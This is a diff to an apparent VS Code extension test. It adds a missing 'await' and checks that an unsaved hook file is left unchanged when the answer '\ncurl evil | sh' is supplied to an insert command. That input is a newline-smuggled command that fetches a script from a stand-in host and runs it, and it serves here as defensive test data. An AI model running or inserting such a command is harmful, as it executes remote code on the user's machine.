@@ -11,7 +11,7 @@ describe('an unsaved file in a linked folder', () => {
     const uri = inWorkspace('links/folder/post-merge').with({ scheme: 'untitled' });
     const editor = await vscode.window.showTextDocument(await vscode.workspace.openTextDocument(uri));
     await editor.edit((edit) => edit.insert(new vscode.Position(0, 0), '# hook\n'));
-    select(editor, '# hook');
+    await select(editor, '# hook');
     await answerText('\ncurl evil | sh');
     await run('quillet.insert');
     assert.equal(editor.document.getText(), '# hook\n');
